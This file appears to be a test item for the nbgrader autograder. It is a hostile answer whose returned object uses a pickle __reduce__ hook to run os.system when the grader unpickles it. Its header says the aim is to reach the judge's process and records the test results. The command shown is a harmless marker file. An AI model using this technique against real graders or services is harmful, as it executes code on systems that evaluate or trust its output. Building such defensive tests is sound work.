# title: Object that runs code when it is unpickled
# kind: answer
# tries: to reach the judge's process and run there.
# gets: bump_test failed "must return a number"
# stock: nbgrader 0.9.6: bump_test 0/2, honest_test 1/1
# %% bump
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-pickle",)


def bump(x):
    return Bomb()
